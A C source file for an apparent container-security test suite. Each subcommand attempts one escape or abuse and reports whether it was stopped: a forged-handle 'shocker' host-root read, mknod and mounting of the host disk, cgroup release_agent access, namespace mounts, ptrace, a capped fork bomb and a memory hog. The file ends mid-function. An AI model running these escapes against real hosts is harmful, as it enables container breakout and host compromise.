/* SPDX-License-Identifier: Apache-2.0 */
/* Container escape and abuse attempts, one per subcommand, for the attack
 * suite (test/attacks/run.sh).  Run inside a container; each prints one
 * line
 *
 *   RESULT <succeeded|stopped|error>|<syscall>|<errno name>|<what happened>|<note>
 *
 * where <syscall> and <errno name> name the call that stopped the attack
 * (empty when it succeeded) and <note> says which capabilities the kernel
 * would also have wanted (filled in only when they are missing).  Before
 * it, a "CONTEXT seccomp=N capeff=HEX nnp=N uid=N euid=N" line.
 *
 * Built static (cc -static) so it runs in a busybox image.
 *
 * Safety: this runs under plain runc too, where the attacks succeed, on a
 * shared machine.  Nothing here changes the host: files that would let a
 * container take the host over (/proc/sysrq-trigger, /proc/sys,
 * release_agent) are opened for writing and closed without a write; the
 * host disk is mounted read-only and unmounted at once, and read only;
 * the fork bomb stops at FORK_CAP processes that only sleep and are
 * killed afterwards; the memory hog stops at HOG_CAP_MB. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define FORK_CAP 3000
#define HOG_CAP_MB 3072
#define HOG_CHUNK_MB 64

/* capability numbers (linux/capability.h) */
#define C_DAC_READ_SEARCH 2
#define C_NET_RAW 13
#define C_SYS_RAWIO 17
#define C_SYS_PTRACE 19
#define C_SYS_ADMIN 21
#define C_MKNOD 27
#define C_SYSLOG 34
#define CAP_BIT(c) (1ULL << (c))

static const char *const cap_names[] = {
  [C_DAC_READ_SEARCH] = "CAP_DAC_READ_SEARCH", [C_NET_RAW] = "CAP_NET_RAW", [C_SYS_RAWIO] = "CAP_SYS_RAWIO",
  [C_SYS_PTRACE] = "CAP_SYS_PTRACE",           [C_SYS_ADMIN] = "CAP_SYS_ADMIN", [C_MKNOD] = "CAP_MKNOD",
  [C_SYSLOG] = "CAP_SYSLOG",
};

static struct
{
  int seccomp, nnp;
  unsigned long long capeff;
} ctx;

/* ------------------------------------------------------------------ output */

static const char *
errno_name (int e)
{
  switch (e)
    {
    case 0: return "";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EIO: return "EIO";
    case ENXIO: return "ENXIO";
    case EBADF: return "EBADF";
    case EAGAIN: return "EAGAIN";
    case ENOMEM: return "ENOMEM";
    case EACCES: return "EACCES";
    case EFAULT: return "EFAULT";
    case ENOTBLK: return "ENOTBLK";
    case EBUSY: return "EBUSY";
    case EEXIST: return "EEXIST";
    case ENODEV: return "ENODEV";
    case ENOTDIR: return "ENOTDIR";
    case EINVAL: return "EINVAL";
    case EMFILE: return "EMFILE";
    case ENOSPC: return "ENOSPC";
    case EROFS: return "EROFS";
    case ENOSYS: return "ENOSYS";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    case EAFNOSUPPORT: return "EAFNOSUPPORT";
    case EUCLEAN: return "EUCLEAN";
    case ESTALE: return "ESTALE";
    default:
      {
        static char buf[32];
        snprintf (buf, sizeof buf, "errno %d", e);
        return buf;
      }
    }
}

static int
has_cap (int cap)
{
  return (ctx.capeff >> cap) & 1;
}

/* "CAP_X not held" for each listed capability the process lacks */
static void
cap_note (char *buf, size_t len, unsigned long long caps)
{
  size_t off = 0;
  buf[0] = '\0';
  for (int c = 0; c < 64; c++)
    if (((caps >> c) & 1) && !has_cap (c) && c < (int) (sizeof cap_names / sizeof cap_names[0]) && cap_names[c])
      off += (size_t) snprintf (buf + off, len - off, "%s%s not held", off ? ", " : "", cap_names[c]);
}

static int
result (const char *status, const char *sc, int err, const char *note, const char *fmt, ...)
  __attribute__ ((format (printf, 5, 6)));

static int
result (const char *status, const char *sc, int err, const char *note, const char *fmt, ...)
{
  char what[1024];
  va_list ap;
  va_start (ap, fmt);
  vsnprintf (what, sizeof what, fmt, ap);
  va_end (ap);
  for (char *p = what; *p; p++)
    if (*p == '|' || *p == '\n')
      *p = ' ';
  printf ("RESULT %s|%s|%s|%s|%s\n", status, sc ? sc : "", errno_name (err), what, note ? note : "");
  fflush (stdout);
  return strcmp (status, "error") == 0 ? 2 : 0;
}

#define SUCCEEDED(...) result ("succeeded", NULL, 0, NULL, __VA_ARGS__)
/* STOPPED(syscall, errno, capability mask the kernel also checks, fmt, ...) */
#define STOPPED(sc, e, caps, ...)                                                                            \
  ({                                                                                                           \
    char note_[256];                                                                                           \
    int e_ = (e);                                                                                              \
    /* a missing capability only explains a refusal */                                                         \
    cap_note (note_, sizeof note_, e_ == EPERM || e_ == EACCES ? (caps) : 0);                                  \
    result ("stopped", sc, e_, note_, __VA_ARGS__);                                                             \
  })
#define ERROR(...) result ("error", NULL, errno, NULL, __VA_ARGS__)

static void
read_context (void)
{
  FILE *f = fopen ("/proc/self/status", "r");
  char line[256];
  ctx.seccomp = -1;
  if (f)
    {
      while (fgets (line, sizeof line, f))
        {
          if (strncmp (line, "Seccomp:", 8) == 0)
            ctx.seccomp = atoi (line + 8);
          else if (strncmp (line, "NoNewPrivs:", 11) == 0)
            ctx.nnp = atoi (line + 11);
          else if (strncmp (line, "CapEff:", 7) == 0)
            ctx.capeff = strtoull (line + 7, NULL, 16);
        }
      fclose (f);
    }
  printf ("CONTEXT seccomp=%d capeff=%016llx nnp=%d uid=%d euid=%d\n", ctx.seccomp, ctx.capeff, ctx.nnp,
          (int) getuid (), (int) geteuid ());
}

/* a scratch directory for mount points and device nodes: /tmp is
 * writable in every container the suite starts */
static const char *
scratch (const char *name)
{
  static char path[256];
  snprintf (path, sizeof path, "/tmp/hr-attack-%s", name);
  if (mkdir (path, 0700) < 0 && errno != EEXIST)
    return NULL;
  return path;
}

static int
mounted_at (const char *dir)
{
  FILE *f = fopen ("/proc/self/mountinfo", "r");
  char line[4096], a[4096];
  int found = 0;
  if (!f)
    return 0;
  while (!found && fgets (line, sizeof line, f))
    if (sscanf (line, "%*s %*s %*s %*s %4095s", a) == 1 && strcmp (a, dir) == 0)
      found = 1;
  fclose (f);
  return found;
}

/* --------------------------------------------------------------- the attacks */

static int
a_mount_tmpfs (void)
{
  const char *dir = scratch ("tmpfs");
  if (!dir)
    return ERROR ("mkdir of the mount point failed");
  if (mount ("hr-attack", dir, "tmpfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, "size=1m") < 0)
    return STOPPED ("mount", errno, CAP_BIT (C_SYS_ADMIN), "mount tmpfs");
  int seen = mounted_at (dir);
  umount2 (dir, MNT_DETACH);
  return SUCCEEDED ("mounted a tmpfs on %s%s", dir, seen ? "" : " (mount returned 0)");
}

/* The host's root block device: the device of a mount whose file system
 * lives on a disk (docker's bind mounts of /etc/hosts and friends come
 * from the host's disk), else the first disk in /sys/dev/block. */
static int
find_host_disk (unsigned *maj, unsigned *min, char *fstype, size_t fslen)
{
  FILE *f = fopen ("/proc/self/mountinfo", "r");
  char line[4096];
  int found = 0;
  if (f)
    {
      while (!found && fgets (line, sizeof line, f))
        {
          unsigned ma, mi;
          char fs[64];
          const char *sep = strstr (line, " - ");
          if (!sep || sscanf (line, "%*s %*s %u:%u", &ma, &mi) != 2 || sscanf (sep + 3, "%63s", fs) != 1)
            continue;
          if (ma != 0 && (strcmp (fs, "ext4") == 0 || strcmp (fs, "ext3") == 0 || strcmp (fs, "ext2") == 0
                          || strcmp (fs, "xfs") == 0 || strcmp (fs, "btrfs") == 0))
            {
              *maj = ma;
              *min = mi;
              snprintf (fstype, fslen, "%s", fs);
              found = 1;
            }
        }
      fclose (f);
    }
  if (!found)
    {
      DIR *d = opendir ("/sys/dev/block");
      struct dirent *e;
      while (d && !found && (e = readdir (d)))
        {
          unsigned ma, mi;
          /* skip loop (7), ram (1) and zram (253 here, but by name below) */
          if (sscanf (e->d_name, "%u:%u", &ma, &mi) == 2 && ma != 7 && ma != 1)
            {
              char link[512], target[512];
              ssize_t n;
              snprintf (link, sizeof link, "/sys/dev/block/%s", e->d_name);
              n = readlink (link, target, sizeof target - 1);
              target[n > 0 ? n : 0] = '\0';
              if (strstr (target, "zram") || strstr (target, "/loop") || strstr (target, "/ram"))
                continue;
              *maj = ma;
              *min = mi;
              snprintf (fstype, fslen, "ext4");
              found = 1;
            }
        }
      if (d)
        closedir (d);
    }
  return found;
}

/* does the container's devices cgroup (v1) let it read b MAJ:MIN?  1 yes,
 * 0 no, -1 unknown */
static int
devices_allow_read (unsigned maj, unsigned min)
{
  FILE *f = fopen ("/sys/fs/cgroup/devices/devices.list", "r");
  char line[128], want[64], any_minor[64];
  int allow = 0;
  if (!f)
    return -1;
  snprintf (want, sizeof want, "b %u:%u ", maj, min);
  snprintf (any_minor, sizeof any_minor, "b %u:* ", maj);
  while (fgets (line, sizeof line, f))
    {
      const char *acc = strrchr (line, ' ');
      if (!acc || !strchr (acc, 'r'))
        continue;
      if (strncmp (line, "a ", 2) == 0 || strncmp (line, "b *:* ", 6) == 0 || strncmp (line, want, strlen (want)) == 0
          || strncmp (line, any_minor, strlen (any_minor)) == 0)
        allow = 1;
    }
  fclose (f);
  return allow;
}

static int
a_host_disk (void)
{
  unsigned maj, min;
  char fstype[64], node[300], magic_note[128] = "";
  const char *dir = scratch ("hostdisk");
  int fd, e;

  if (!dir)
    return ERROR ("mkdir of the mount point failed");
  if (!find_host_disk (&maj, &min, fstype, sizeof fstype))
    return ERROR ("no host disk found in /proc/self/mountinfo or /sys/dev/block");
  snprintf (node, sizeof node, "/tmp/hr-attack-disk-%u-%u", maj, min);
  unlink (node);
  if (mknod (node, S_IFBLK | 0600, makedev (maj, min)) < 0)
    return STOPPED ("mknod", errno, CAP_BIT (C_MKNOD), "mknod b %u:%u (the host's %s disk)", maj, min, fstype);
  fd = open (node, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    {
      e = errno;
      unlink (node);
      int allow = devices_allow_read (maj, min);
      return result ("stopped", "open", e,
                     allow == 1   ? "the container's devices cgroup allows reading it: refused outside the container"
                     : allow == 0 ? "the devices cgroup allows mknod, not reading or writing"
                                  : "",
                     "mknod b %u:%u worked; opening it", maj, min);
    }
  {
    unsigned char sb[2048];
    if (pread (fd, sb, sizeof sb, 0) == (ssize_t) sizeof sb && sb[1024 + 0x38] == 0x53 && sb[1024 + 0x39] == 0xEF)
      snprintf (magic_note, sizeof magic_note, "read its ext superblock (magic 0xEF53)");
    else
      snprintf (magic_note, sizeof magic_note, "read its first blocks");
  }
  close (fd);
  if (mount (node, dir, fstype, MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0)
    {
      e = errno;
      unlink (node);
      /* opening the raw device is already the escape: the host's files
       * can be read from it */
      return SUCCEEDED ("mknod b %u:%u, opened the host disk and %s; read-only mount: %s%s", maj, min, magic_note,
                        errno_name (e),
                        e == EBUSY ? " (the kernel will not mount read-only what the host has mounted read-write)"
                                   : "");
    }
  {
    DIR *d = opendir (dir);
    struct dirent *de;
    char names[200] = "";
    size_t off = 0;
    int n = 0;
    while (d && (de = readdir (d)) && n < 6)
      if (de->d_name[0] != '.')
        {
          off += (size_t) snprintf (names + off, sizeof names - off, "%s%s", n ? " " : "", de->d_name);
          n++;
        }
    if (d)
      closedir (d);
    umount2 (dir, MNT_DETACH);
    unlink (node);
    return SUCCEEDED ("mknod b %u:%u, %s, mounted the host's root read-only (%s ...) and unmounted it", maj, min,
                      magic_note, names);
  }
}

static int
write_file (const char *path, const char *text)
{
  int fd = open (path, O_WRONLY | O_CLOEXEC);
  ssize_t n = -1;
  if (fd >= 0)
    {
      n = write (fd, text, strlen (text));
      close (fd);
    }
  return n == (ssize_t) strlen (text) ? 0 : -1;
}

/* CVE-2022-0185's path: a new user namespace gives CAP_SYS_ADMIN over a new
 * mount namespace, and with it the file system parameter parsing code
 * (fsopen/fsconfig) */
static int
a_userns_mount (void)
{
  char map[64];
  const char *dir = scratch ("userns");
  uid_t uid = getuid ();
  gid_t gid = getgid ();
  int fs;
  if (!dir)
    return ERROR ("mkdir of the mount point failed");
  if (unshare (CLONE_NEWUSER | CLONE_NEWNS) < 0)
    return STOPPED ("unshare", errno, 0, "unshare(CLONE_NEWUSER+CLONE_NEWNS)");
  write_file ("/proc/self/setgroups", "deny");
  snprintf (map, sizeof map, "0 %d 1", (int) uid);
  write_file ("/proc/self/uid_map", map);
  snprintf (map, sizeof map, "0 %d 1", (int) gid);
  write_file ("/proc/self/gid_map", map);
  if (mount ("hr-attack", dir, "tmpfs", 0, "size=1m") < 0)
    return STOPPED ("mount", errno, 0, "unshare(CLONE_NEWUSER+CLONE_NEWNS) worked; mount in it");
  umount2 (dir, MNT_DETACH);
  fs = (int) syscall (SYS_fsopen, "tmpfs", 0);
  if (fs < 0)
    return SUCCEEDED ("unshare(CLONE_NEWUSER+CLONE_NEWNS), then mounted a tmpfs in the new namespaces (fsopen: %s)",
                      errno_name (errno));
  if (syscall (SYS_fsconfig, fs, FSCONFIG_SET_STRING, "size", "1m", 0) < 0)
    {
      int e = errno;
      close (fs);
      return SUCCEEDED ("unshare(CLONE_NEWUSER+CLONE_NEWNS), then mounted a tmpfs in the new namespaces "
                        "(fsconfig: %s)",
                        errno_name (e));
    }
  close (fs);
  return SUCCEEDED ("unshare(CLONE_NEWUSER+CLONE_NEWNS), then mounted a tmpfs and ran fsopen+fsconfig "
                    "(the CVE-2022-0185 code) in the new namespaces");
}

/* CVE-2022-0492's path: a cgroup v1 hierarchy mounted in the container,
 * whose root's release_agent the host kernel runs as root */
static int
a_cgroup_release_agent (void)
{
  char opts[128] = "", path[400];
  const char *dir = scratch ("cgroup");
  FILE *f = fopen ("/proc/self/cgroup", "r");
  char line[512];
  int fd, e;
  if (!dir)
    return ERROR ("mkdir of the mount point failed");
  /* a v1 hierarchy this machine has: rdma, then memory, else the first */
  while (f && fgets (line, sizeof line, f))
    {
      char *c = strchr (line, ':'), *end;
      if (!c || !(end = strchr (c + 1, ':')) || end == c + 1)
        continue;
      *end = '\0';
      c++;
      if (!opts[0] || strcmp (c, "rdma") == 0 || (strcmp (c, "memory") == 0 && strcmp (opts, "rdma") != 0))
        {
          if (strncmp (c, "name=", 5) == 0)
            snprintf (opts, sizeof opts, "none,%s", c);
          else
            snprintf (opts, sizeof opts, "%s", c);
        }
    }
  if (f)
    fclose (f);
  if (!opts[0])
    snprintf (opts, sizeof opts, "memory");
  if (mount ("cgroup", dir, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, opts) < 0)
    return STOPPED ("mount", errno, CAP_BIT (C_SYS_ADMIN), "mount -t cgroup -o %s", opts);
  snprintf (path, sizeof path, "%s/release_agent", dir);
  fd = open (path, O_WRONLY | O_CLOEXEC);
  e = errno;
  if (fd >= 0)
    close (fd); /* never written */
  umount2 (dir, MNT_DETACH);
  if (fd < 0)
    return STOPPED ("open", e, 0, "mounted the %s hierarchy; opening release_agent for writing", opts);
  return SUCCEEDED ("mounted the cgroup v1 %s hierarchy and opened release_agent for writing (not written)", opts);
}

/* "shocker": open_by_handle_at with a forged handle of inode 2, the root of
 * the host file system that /etc/hosts (bind-mounted by docker) lives on */
static int
a_shocker (void)
{
  union
  {
    struct file_handle fh;
    unsigned char buf[sizeof (struct file_handle) + 128];
  } h;
  unsigned char *f_handle = h.buf + sizeof (struct file_handle);
  int mount_id, mfd, dfd, type = 1 /* FILEID_INO32_GEN */;
  struct stat st_root, st_host;
  char names[200] = "";

  mfd = open ("/etc/hosts", O_RDONLY | O_CLOEXEC);
  if (mfd < 0)
    return ERROR ("no /etc/hosts to take the mount from");
  memset (&h, 0, sizeof h);
  h.fh.handle_bytes = 128;
  if (name_to_handle_at (AT_FDCWD, "/etc/hosts", &h.fh, &mount_id, 0) == 0)
    type = h.fh.handle_type;
  memset (&h, 0, sizeof h);
  h.fh.handle_bytes = 8;
  h.fh.handle_type = type;
  f_handle[0] = 2; /* inode 2, generation 0: the root directory */
  dfd = open_by_handle_at (mfd, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd < 0)
    {
      int e = errno;
      close (mfd);
      return STOPPED ("open_by_handle_at", e, CAP_BIT (C_DAC_READ_SEARCH), "open_by_handle_at(inode 2)");
    }
  close (mfd);
  if (fstat (dfd, &st_host) == 0 && stat ("/", &st_root) == 0 && st_host.st_dev == st_root.st_dev
      && st_host.st_ino == st_root.st_ino)
    {
      close (dfd);
      return STOPPED ("", 0, CAP_BIT (C_DAC_READ_SEARCH), "open_by_handle_at returned the container's own root");
    }
  {
    DIR *d = fdopendir (dfd);
    struct dirent *de;
    size_t off = 0;
    int n = 0;
    while (d && (de = readdir (d)) && n < 8)
      if (de->d_name[0] != '.' && strcmp (de->d_name, "lost+found") != 0)
        {
          off += (size_t) snprintf (names + off, sizeof names - off, "%s%s", n ? " " : "", de->d_name);
          n++;
        }
    if (d)
      closedir (d);
  }
  return SUCCEEDED ("opened the host file system's root directory by a forged handle and listed it (%s ...)", names);
}

static int
a_keyctl (void)
{
  long key, r;
  char desc[256];
  key = syscall (SYS_add_key, "user", "hr-attack", "x", 1, KEY_SPEC_PROCESS_KEYRING);
  if (key < 0)
    return STOPPED ("add_key", errno, 0, "add_key");
  r = syscall (SYS_keyctl, KEYCTL_DESCRIBE, key, desc, sizeof desc);
  if (r < 0)
    return STOPPED ("keyctl", errno, 0, "add_key worked; keyctl(KEYCTL_DESCRIBE)");
  return SUCCEEDED ("add_key and keyctl reach the kernel's keyrings (not namespaced): key %ld described", key);
}

static int
a_bpf (void)
{
  union bpf_attr a;
  struct bpf_insn prog[2] = {
    { .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 }, /* r0 = 0 */
    { .code = BPF_JMP | BPF_EXIT },
  };
  int map, fd;

  memset (&a, 0, sizeof a);
  a.map_type = BPF_MAP_TYPE_ARRAY;
  a.key_size = 4;
  a.value_size = 4;
  a.max_entries = 1;
  map = (int) syscall (SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
  if (map < 0)
    return STOPPED ("bpf", errno, CAP_BIT (C_SYS_ADMIN), "bpf(BPF_MAP_CREATE)");
  close (map);
  memset (&a, 0, sizeof a);
  a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  a.insns = (uint64_t) (uintptr_t) prog;
  a.insn_cnt = 2;
  a.license = (uint64_t) (uintptr_t) "GPL";
  fd = (int) syscall (SYS_bpf, BPF_PROG_LOAD, &a, sizeof a);
  if (fd < 0)
    return STOPPED ("bpf", errno, CAP_BIT (C_SYS_ADMIN), "bpf(BPF_MAP_CREATE) worked; bpf(BPF_PROG_LOAD)");
  close (fd);
  return SUCCEEDED ("created a BPF map and loaded a BPF program (the verifier is reachable)");
}

static int
a_userfaultfd (void)
{
  struct uffdio_api api = { .api = UFFD_API };
  int fd = (int) syscall (SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
  if (fd < 0)
    {
      int e = errno;
      /* user-mode-only faults are what an unprivileged process may get
       * on kernels with vm.unprivileged_userfaultfd=0 */
      int fd2 = (int) syscall (SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | 1 /* UFFD_USER_MODE_ONLY */);
      if (fd2 >= 0)
        {
          close (fd2);
          return STOPPED ("userfaultfd", e, CAP_BIT (C_SYS_PTRACE),
                          "userfaultfd for kernel faults (the exploitation primitive); only user-mode-only worked");
        }
      return STOPPED ("userfaultfd", e, CAP_BIT (C_SYS_PTRACE), "userfaultfd");
    }
  if (ioctl (fd, UFFDIO_API, &api) < 0)
    {
      int e = errno;
      close (fd);
      return STOPPED ("ioctl", e, CAP_BIT (C_SYS_PTRACE), "userfaultfd worked; UFFDIO_API");
    }
  close (fd);
  return SUCCEEDED ("created a userfaultfd that handles kernel-mode faults (UFFDIO_API done)");
}

static int
a_io_uring (void)
{
  struct io_uring_params p;
  int fd;
  memset (&p, 0, sizeof p);
  fd = (int) syscall (SYS_io_uring_setup, 4, &p);
  if (fd < 0)
    return STOPPED ("io_uring_setup", errno, 0, "io_uring_setup");
  close (fd);
  return SUCCEEDED ("created an io_uring instance (%u submission entries)", p.sq_entries);
}

static int
a_ptrace (const char *pidarg)
{
  pid_t pid = (pid_t) atoi (pidarg ? pidarg : "0");
  char comm[64] = "?", path[64];
  FILE *f;
  int st;

  if (pid <= 1)
    return ERROR ("ptrace needs the pid of a sibling process");
  snprintf (path, sizeof path, "/proc/%d/comm", (int) pid);
  if ((f = fopen (path, "r")))
    {
      if (fgets (comm, sizeof comm, f))
        comm[strcspn (comm, "\n")] = '\0';
      fclose (f);
    }
  if (ptrace (PTRACE_ATTACH, pid, NULL, NULL) < 0)
    return STOPPED ("ptrace", errno, CAP_BIT (C_SYS_PTRACE), "PTRACE_ATTACH to the sibling %s (pid %d)", comm,
                    (int) pid);
  waitpid (pid, &st, __WALL);
  errno = 0;
  ptrace (PTRACE_PEEKUSER, pid, NULL, NULL); /* a word of its registers */
  int e = errno;
  ptrace (PTRACE_DETACH, pid, NULL, NULL);
  return SUCCEEDED ("PTRACE_ATTACH to the sibling %s (pid %d), read its registers%s, detached", comm, (int) pid,
                    e ? " (failed)" : "");
}

static int
a_raw_socket (void)
{
  int p = socket (AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons (ETH_P_ALL)), e;
  if (p < 0)
    return STOPPED ("socket", errno, CAP_BIT (C_NET_RAW), "socket(AF_PACKET, SOCK_RAW)");
  close (p);
  p = socket (AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  e = errno;
  if (p < 0)
    return STOPPED ("socket", e, CAP_BIT (C_NET_RAW), "AF_PACKET worked; socket(AF_INET, SOCK_RAW)");
  close (p);
  return SUCCEEDED ("opened AF_PACKET and AF_INET SOCK_RAW sockets");
}

static int
a_mknod_block (void)
{
  unsigned maj, min;
  char fstype[64], node[300];
  int fd, e;
  if (!find_host_disk (&maj, &min, fstype, sizeof fstype))
    maj = 8, min = 0;
  snprintf (node, sizeof node, "/tmp/hr-attack-blk-%u-%u", maj, min);
  unlink (node);
  if (mknod (node, S_IFBLK | 0600, makedev (maj, min)) < 0)
    return STOPPED ("mknod", errno, CAP_BIT (C_MKNOD), "mknod b %u:%u", maj, min);
  fd = open (node, O_RDONLY | O_CLOEXEC);
  e = errno;
  if (fd >= 0)
    close (fd);
  unlink (node);
  return SUCCEEDED ("created the block device node b %u:%u (the host disk; opening it: %s)", maj, min,
                    fd >= 0 ? "worked" : errno_name (e));
}

static int
a_write_rootfs (void)
{
  const char *path = "/hr-attack-rootfs-write";
  int fd = open (path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0)
    {
      int e = errno;
      /* and the image's own binaries */
      int fd2 = open ("/bin/busybox", O_WRONLY | O_CLOEXEC);
      if (fd2 >= 0)
        {
          close (fd2);
          return SUCCEEDED ("creating %s failed (%s) but /bin/busybox opened for writing", path, errno_name (e));
        }
      return STOPPED ("open", e, 0, "creating %s", path);
    }
  if (write (fd, "x", 1) != 1)
    {
      int e = errno;
      close (fd);
      unlink (path);
      return STOPPED ("write", e, 0, "write to %s", path);
    }
  close (fd);
  unlink (path);
  return SUCCEEDED ("created and wrote %s in the image's root file system", path);
}

/* open for writing, never write */
static int
open_for_write (const char *path, const char *why)
{
  int fd = open (path, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    return STOPPED ("open", errno, 0, "open %s for writing", path);
  close (fd);
  return SUCCEEDED ("opened %s for writing (not written: %s)", path, why);
}

/* a console node the image ships: open for writing, never write, never
 * as the controlling terminal */
static int
a_console (const char *path)
{
  int fd;
  if (path == NULL)
    path = "/console";
  fd = open (path, O_WRONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0)
    return STOPPED ("open", errno, 0, "open %s (c 5:1, the host's console) for writing", path);
  close (fd);
  return SUCCEEDED ("opened %s (c 5:1) for writing: the host's console (not written)", path);
}

/* a c 1:11 node the image ships: the host's kernel log, one record read */
static int
a_kmsg (const char *path)
{
  char rec[512];
  ssize_t n;
  int fd, e;
  if (path == NULL)
    path = "/kmsg";
  fd = open (path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0)
    return STOPPED ("open", errno, CAP_BIT (C_SYSLOG), "open %s (c 1:11, the host's kernel log)", path);
  n = read (fd, rec, sizeof rec);
  e = errno;
  close (fd);
  if (n < 0 && e != EAGAIN)
    return STOPPED ("read", e, CAP_BIT (C_SYSLOG), "read %s", path);
  return SUCCEEDED ("opened %s (c 1:11) and read %zd bytes of the host's kernel log", path, n < 0 ? (ssize_t) 0 : n);
}

static int
a_kcore (void)
{
  unsigned char hdr[64];
  ssize_t n;
  int fd = open ("/proc/kcore", O_RDONLY | O_CLOEXEC), e;
  if (fd < 0)
    return STOPPED ("open", errno, CAP_BIT (C_SYS_RAWIO), "open /proc/kcore");
  n = read (fd, hdr, sizeof hdr);
  e = errno;
  close (fd);
  if (n < 0)
    return STOPPED ("read", e, CAP_BIT (C_SYS_RAWIO), "read /proc/kcore");
  if (n >= 4 && memcmp (hdr, "\177ELF", 4) == 0)
    return SUCCEEDED ("read the ELF header of /proc/kcore (the host kernel's memory)");
  return STOPPED ("", 0, CAP_BIT (C_SYS_RAWIO), "/proc/kcore reads %zd bytes, no ELF header (masked)", n);
}

static int
a_setuid (void)
{
  uid_t r, e, s;
  getresuid (&r, &e, &s);
  if (r == 0)
    return ERROR ("run this as a non-root user: the setuid copy must be what raises the privileges");
  if (e == 0)
    return SUCCEEDED ("uid %d ran a setuid-root copy and got euid 0 (CapEff %016llx)", (int) r, ctx.capeff);
  return STOPPED ("execve", 0, 0, "uid %d ran a setuid-root copy: euid stayed %d (NoNewPrivs=%d)", (int) r,
                  (int) e, ctx.nnp);
}

static long
read_long_file (const char *path)
{
  FILE *f = fopen (path, "r");
  char buf[64] = "";
  long v = -1;
  if (f)
    {
      if (fgets (buf, sizeof buf, f))
        v = strncmp (buf, "max", 3) == 0 ? -2 : atol (buf);
      fclose (f);
    }
  return v;
}

static int
a_fork_bomb (const char *hold)
{
  static pid_t kids[FORK_CAP];
  int n = 0, e = 0;
  long max = read_long_file ("/sys/fs/cgroup/pids/pids.max");
  char limit[64];
  if (max == -1)
    max = read_long_file ("/sys/fs/cgroup/pids.max");
  if (max == -2)
    snprintf (limit, sizeof limit, "pids.max=max");
  else
    snprintf (limit, sizeof limit, "pids.max=%ld", max);
  while (n < FORK_CAP)
    {
      pid_t p = fork ();
      if (p < 0)
        {
          e = errno;
          break;
        }
      if (p == 0)
        {
          prctl (PR_SET_PDEATHSIG, SIGKILL);
          for (;;)
            pause ();
        }
      kids[n++] = p;
    }
  /* the suite checks the host while the processes exist */
  if (hold)
    {
      printf ("HOLDING %d\n", n);
      fflush (stdout);
      sleep ((unsigned) atoi (hold));
    }
  for (int i = 0; i < n; i++)
    kill (kids[i], SIGKILL);
  while (wait (NULL) > 0 || errno == EINTR)
    ;
  if (n >= FORK_CAP)
    return SUCCEEDED ("%d processes forked without hitting a limit (%s; the suite stops at %d)", n, limit,
                      FORK_CAP);
  return STOPPED ("fork", e, 0, "fork failed after %d processes (%s)", n, limit);
}

static int
a_memory_hog (void)
{
  long limit = read_long_file ("/sys/fs/cgroup/memory/memory.limit_in_bytes");
  volatile long *done = mmap (NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  char lim[64];
  pid_t pid;
  int st;
  if (limit == -1)
    limit = read_long_file ("/sys/fs/cgroup/memory.max");
  if (limit < 0 || limit >= (1L << 50))
    snprintf (lim, sizeof lim, "no memory limit");
  else
    snprintf (lim, sizeof lim, "memory limit %ld MiB", limit >> 20);
  if (done == MAP_FAILED)
    return ERROR ("mmap of the shared counter failed");
  *done = 0;
  pid = fork ();
  if (pid < 0)
    return ERROR ("fork failed");
  if (pid == 0)
    {
      for (long mb = 0; mb < HOG_CAP_MB; mb += HOG_CHUNK_MB)
        {
          char *p = mmap (NULL, (size_t) HOG_CHUNK_MB << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
                          -1, 0);
          if (p == MAP_FAILED)
            _exit (3);
          /* huge pages where the kernel has them: the same memory in a
           * fraction of the page faults */
          madvise (p, (size_t) HOG_CHUNK_MB << 20, MADV_HUGEPAGE);
          for (size_t off = 0; off < ((size_t) HOG_CHUNK_MB << 20); off += 4096)
            p[off] = 0x5a;
          *done = mb + HOG_CHUNK_MB;
        }
      _exit (0);
    }
  while (waitpid (pid, &st, 0) < 0 && errno == EINTR)
    ;
  if (WIFEXITED (st) && WEXITSTATUS (st) == 0)
    return SUCCEEDED ("%ld MiB allocated and touched (%s; the suite stops at %d MiB)", *done, lim, HOG_CAP_MB);
  if (WIFSIGNALED (st) && WTERMSIG (st) == SIGKILL)
    return STOPPED ("", 0, 0, "OOM-killed after %ld MiB (%s)", *done, lim);
  if (WIFEXITED (st) && WEXITSTATUS (st) == 3)
    return STOPPED ("mmap", ENOMEM, 0, "mmap failed after %ld MiB (%s)", *done, lim);
  return STOPPED ("", 0, 0, "the hog ended with status %d after %ld MiB (%s)", st, *done, lim);
}

/* CVE-2024-21626: the working directory is a leaked host fd (docker run -w
 * /proc/self/fd/N); a relative path from it climbs to the host's root */
static int
